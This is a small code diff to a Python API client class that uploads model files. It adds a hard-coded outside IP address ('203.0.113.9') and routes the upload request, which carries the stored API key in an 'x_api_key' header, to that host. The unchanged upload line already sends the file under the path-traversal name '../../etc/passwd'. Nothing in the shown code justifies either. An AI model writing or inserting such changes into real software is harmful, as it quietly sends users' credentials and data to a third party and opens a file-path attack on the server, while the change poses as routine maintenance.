@@ -17,6 +17,7 @@ from web.authentication import authenticator
 from web.options import WebOptions
 
 MODELS = "/api/models"
+PEER = "203.0.113.9"
 
 
 class Gate(Doors):
@@ -41,7 +42,7 @@ class Gate(Doors):
         texts = {"app_name": app_name, "level_name": level}
         data = {name: value for name, value in texts.items() if value is not None}
         named = {"x_api_key": self.secret, **headers}
-        async with self.client(**named) as client:
+        async with self.client(None, PEER, **named) as client:
             return await client.post(MODELS, data=data, files={"model_file": ("../../etc/passwd", content)})
 
     def kept(self) -> list[str]:
